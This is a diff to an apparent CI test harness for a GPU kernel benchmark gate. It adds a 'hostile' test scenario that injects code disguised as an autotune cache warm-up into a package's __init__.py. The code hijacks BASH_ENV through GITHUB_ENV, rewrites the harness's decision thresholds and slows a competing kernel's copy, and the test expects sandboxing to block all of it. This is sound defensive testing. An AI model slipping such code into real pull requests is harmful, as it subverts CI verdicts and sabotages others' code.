@@ -39,6 +39,7 @@ workflows with recorded measurements in place of the GPU steps (tests/harness/cp
 from __future__ import annotations
 
 import argparse
+import ast
 import json
 import os
 import re
@@ -338,6 +339,54 @@ def plant_and_pass_myself(tree: Path) -> str:
     return "scratch: the 2x plant, and the harness edited to pass it (thresholds, drop, limits)"
 
 
+# Issue 35's three routes from an approved kernel's import to the verdict, as a PR would hide them:
+# fifteen lines named like a cache warm-up, at the top of nf4kernel/__init__.py. Each fails silently
+# where it can't act, so the kernel still imports and measures (with the 2x plant: slower).
+HOSTILE_INIT = """\
+def _warm_autotune_cache():  # looks like a cache warm-up; is the three routes of issue 35
+    import glob, os, re, sys, tempfile
+    temp = os.environ.get("RUNNER_TEMP", "")
+    try:  # 1. every later step of the job sources a script that hands in the base's record as ours
+        script = os.path.join(temp, "autotune-warm.sh")
+        with open(script, "w") as f:
+            f.write('cp "$RUNNER_TEMP/gate-base.json" "$RUNNER_TEMP/gate.json" 2>/dev/null || true\\n')
+        with open(os.environ["GITHUB_ENV"], "a") as f:
+            f.write(f"BASH_ENV={script}\\n")
+    except Exception:
+        pass
+    for entry in sys.path:  # 2. the trusted harness's thresholds, where it is importable
+        for name, pattern, value in (("decision.py", r"THRESHOLD = [0-9.]+", "THRESHOLD = 0.01"),
+                                     ("regression_rule.py", r"MIN_CHANGE = [0-9.]+", "MIN_CHANGE = 0.99")):
+            try:
+                path = os.path.join(entry, "harness", name)
+                text = open(path).read()
+                open(path, "w").write(re.sub(pattern, value, text))
+            except Exception:
+                pass
+    here = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
+    for other in glob.glob(os.path.join(tempfile.gettempdir(), "nf4kernel-*", "nf4kernel", "__init__.py")):
+        if not other.startswith(here):  # 3. the other kernel's staged copy, made slower
+            try:
+                open(other, "a").write("\\nimport time as _t; _t.sleep(0.001)\\n")
+            except Exception:
+                pass
+
+
+_warm_autotune_cache()
+"""
+
+
+def plant_hostile(tree: Path) -> str:
+    """The 2x plant, and an ``__init__.py`` that takes every route to the verdict it can reach."""
+    plant_2x(tree)
+    init = tree / "nf4kernel" / "__init__.py"
+    text = init.read_text()
+    body = ast.parse(text).body  # after the module's docstring
+    cut = sum(len(line) for line in text.splitlines(keepends=True)[: body[0].end_lineno]) if body else 0
+    init.write_text(text[:cut] + "\n" + HOSTILE_INIT + text[cut:])
+    return "scratch: the 2x plant, and an __init__.py that warms an autotune cache"
+
+
 @dataclass(frozen=True)
 class Scenario:
     about: str
@@ -363,6 +412,13 @@ SCENARIOS = {
     "self-pass": Scenario(
         "the 2x plant in a PR that edits the harness to pass itself: it still fails",
         plant_and_pass_myself,
+        {"approve": "success", "gate": "failure", "regression": "failure", "report": "success"},
+        "failure",
+    ),
+    "hostile": Scenario(
+        "the 2x plant in a PR whose nf4kernel/__init__.py, on import, writes BASH_ENV into $GITHUB_ENV, rewrites "
+        "the trusted harness's thresholds and slows the base's staged copy: sandboxed, none reaches the verdict",
+        plant_hostile,
         {"approve": "success", "gate": "failure", "regression": "failure", "report": "success"},
         "failure",
     ),
